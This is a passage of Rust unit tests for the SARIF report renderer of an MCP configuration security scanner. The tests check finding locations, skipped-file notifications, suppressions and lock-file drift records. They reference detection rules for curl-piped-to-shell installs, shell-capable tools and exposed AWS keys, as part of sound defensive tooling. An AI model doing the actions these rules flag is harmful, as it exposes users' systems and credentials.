        curl.at = Some(crate::model::Position {
            line: 4,
            column: 22,
        });
        let text = render(&r, "0.1.0", Path::new("/work/repo"), 1);
        validate(&text);
        let v = parse(&text);
        let region = |i: usize| {
            let reg = &v["runs"][0]["results"][i]["locations"][0]["physicalLocation"]["region"];
            (reg["startLine"].as_u64(), reg["startColumn"].as_u64())
        };
        assert_eq!(v["runs"][0]["results"][9]["ruleId"], "WRD-SUP-CURL-PIPE");
        assert_eq!(region(9), (Some(4), Some(22)));
        assert_eq!(region(8), (Some(3), Some(5)));
    }

    /// `mixed_report` with a skipped and an unreadable file, a suppressed finding
    /// and a finding located at its value.
    fn report_with_problems() -> Report {
        let mut r = mixed_report();
        r.skipped = 1;
        r.hard_errors = 1;
        r.problems = crate::render::jsonl::tests::sample_problems();
        r.servers[1].findings[3].suppressed = Some(Box::new(crate::model::Suppression {
            reason: "pinned by the internal mirror".into(),
            expires: "2027-01-31".into(),
        }));
        r.servers[3].findings[1].at = Some(crate::model::Position {
            line: 4,
            column: 22,
        });
        r
    }

    fn problems_sample() -> String {
        render(&report_with_problems(), "0.1.0", Path::new("/work/repo"), 2)
    }

    #[test]
    fn files_not_scanned_are_notifications_and_unreadable_is_unsuccessful() {
        let r = report_with_problems();
        for (code, successful) in [(2u8, false), (1, true)] {
            let text = render(&r, "0.1.0", Path::new("/work/repo"), code);
            validate(&text);
            assert!(!text.contains('\u{202e}'));
            let v = parse(&text);
            let invocation = &v["runs"][0]["invocations"][0];
            assert_eq!(invocation["executionSuccessful"], successful);
            assert_eq!(invocation["exitCode"], code);
            let notes = invocation["toolExecutionNotifications"]
                .as_array()
                .cloned()
                .unwrap_or_default();
            assert_eq!(notes.len(), 2);
            assert_eq!(notes[0]["level"], "warning");
            assert_eq!(notes[0]["properties"]["kind"], "skipped");
            assert_eq!(notes[0]["properties"]["path"], "~/.claude.json");
            assert_eq!(
                notes[0]["message"]["text"],
                "~/.claude.json: skipped, not scanned: larger than 64 MiB (to scan it anyway: mcp-warden doctor --config '/home/u/.claude.json')."
            );
            assert_eq!(notes[1]["level"], "error");
            assert_eq!(notes[1]["properties"]["kind"], "unreadable");
            assert!(notes[1]["properties"].get("rescan").is_none());
        }
        // Nothing unscanned: an invocation without notifications.
        let v = parse(&render(&worked_example(), "0.1.0", Path::new("/w"), 1));
        let invocation = &v["runs"][0]["invocations"][0];
        assert_eq!(invocation["executionSuccessful"], true);
        assert!(invocation.get("toolExecutionNotifications").is_none());
    }

    #[test]
    fn suppressed_findings_carry_an_external_suppression() {
        let results = results_of(&problems_sample());
        let suppressed: Vec<&Value> = results
            .iter()
            .filter(|r| r.get("suppressions").is_some())
            .collect();
        assert_eq!(suppressed.len(), 1);
        assert_eq!(suppressed[0]["ruleId"], "WRD-SUP-NPX-UNPINNED");
        assert_eq!(
            suppressed[0]["suppressions"],
            serde_json::json!([{
                "kind": "external",
                "status": "accepted",
                "justification": "pinned by the internal mirror",
                "properties": {"expires": "2027-01-31"}
            }])
        );
    }

    #[test]
    fn project_files_are_relative_to_srcroot_and_others_absolute() {
        let text = render(&mixed_report(), "0.1.0", Path::new("/work/repo"), 1);
        let v = parse(&text);
        assert_eq!(
            v["runs"][0]["originalUriBaseIds"]["%SRCROOT%"]["uri"],
            "file:///work/repo/"
        );
        let artifacts: Vec<Value> = v["runs"][0]["results"]
            .as_array()
            .map(|rs| {
                rs.iter()
                    .map(|r| r["locations"][0]["physicalLocation"]["artifactLocation"].clone())
                    .collect()
            })
            .unwrap_or_default();
        assert_eq!(
            artifacts[8],
            serde_json::json!({"uri": ".mcp.json", "uriBaseId": "%SRCROOT%"})
        );
        assert_eq!(
            artifacts[1],
            serde_json::json!({"uri": "file:///home/u/.cursor/mcp.json"})
        );
        // A sibling directory that shares the prefix is not under the project.
        assert_eq!(
            artifact_location(Path::new("/work/repo2/.mcp.json"), Path::new("/work/repo")).uri,
            "file:///work/repo2/.mcp.json"
        );
    }

    /// A `pin`/`check` log: a catalog finding, one with a rule and severity this
    /// version does not know, and a fine-grained drift item.
    fn lock_sample() -> String {
        use crate::pin::drift::DriftItem;
        use crate::pin::lock::{LockFinding, Recorded};
        use crate::pin::rules::{DriftClass, SchemaChange};
        let findings = vec![
            LockFinding::new(
                RuleId::CapShell,
                "tools/run".into(),
                "Tool derives capability 'shell-exec' (property 'command')".into(),
                "property 'command'".into(),
            ),
            LockFinding {
                rule_id: Recorded::Unknown("WRD-FUTURE-RULE".into()),
                severity: Recorded::Unknown("severe".into()),
                target: "tools/run".into(),
                message: "from a newer version".into(),
                snippet: "x".into(),
            },
        ];
        let drift = vec![DriftItem {
            class: DriftClass::InputSchema(SchemaChange::EnumAdded),
            target: "tools/run".into(),
            message: "Tool 'run' schema schema-enum-added at 'mode'".into(),
            detail: Some("enum added".into()),
        }];
        let lock_text = "{\n  \"tools\": [\n    {\n      \"name\": \"run\",\n";
        let records = crate::render::record::lock_records(&findings, &drift, lock_text);
        render_lock(
            &records,
            Path::new("/work/repo/x.lock"),
            Path::new("/work/repo"),
            "0.1.0",
        )
    }

    #[test]
    fn lock_records_point_into_the_lock_and_keep_unknown_rules() {
        let text = lock_sample();
        let v = parse(&text);
        let results = results_of(&text);
        assert_eq!(results.len(), 3);
        for r in &results {
            let loc = &r["locations"][0]["physicalLocation"];
            assert_eq!(loc["artifactLocation"]["uri"], "x.lock");
            assert_eq!(loc["artifactLocation"]["uriBaseId"], "%SRCROOT%");
            assert_eq!(loc["region"]["startLine"], 4);
        }
        assert_eq!(results[1]["ruleId"], "WRD-FUTURE-RULE");
        assert_eq!(results[1]["level"], "warning");
        assert_eq!(results[1]["properties"]["severity"], "severe");
        assert_eq!(results[2]["ruleId"], "WRD-DRIFT-SCHEMA-ENUM-ADDED");
        assert_eq!(results[2]["level"], "note");
        assert_eq!(results[2]["properties"]["driftClass"], "schema-enum-added");
        assert_eq!(results[2]["properties"]["detail"], "enum added");
        let rules = v["runs"][0]["tool"]["driver"]["rules"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        let ids: Vec<&str> = rules.iter().filter_map(|r| r["id"].as_str()).collect();
        assert_eq!(
            ids,
            [
                "WRD-CAP-SHELL",
                "WRD-DRIFT-SCHEMA-ENUM-ADDED",
                "WRD-FUTURE-RULE"
            ]
        );
        for r in &results {
            let index = r["ruleIndex"].as_u64().unwrap_or(u64::MAX) as usize;
            assert_eq!(rules[index]["id"], r["ruleId"]);
        }
        assert_eq!(rules[1]["defaultConfiguration"]["level"], "note");
    }

    #[test]
    fn uris() {
        assert_eq!(
            file_uri(Path::new("/a b/c#d%e/é")),
            "file:///a%20b/c%23d%25e/%C3%A9"
        );
        assert_eq!(uri_path(Path::new("x/./y/../z")), "x/y/../z");
        assert_eq!(rule_name("WRD-SEC-AWS-AKID"), "SecAwsAkid");
    }
}
